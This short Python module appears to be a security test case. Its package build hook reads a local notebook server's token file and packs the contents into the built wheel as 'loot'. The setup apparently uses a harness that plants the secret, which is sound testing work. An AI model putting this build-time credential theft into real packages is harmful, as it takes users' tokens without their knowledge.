"""Reads the token of a notebook server that runs on the machine.

No vulnerability is needed: running code is what the server is for.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        with open(kit.plant("server").path, "rb") as secret:
            loot["data.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
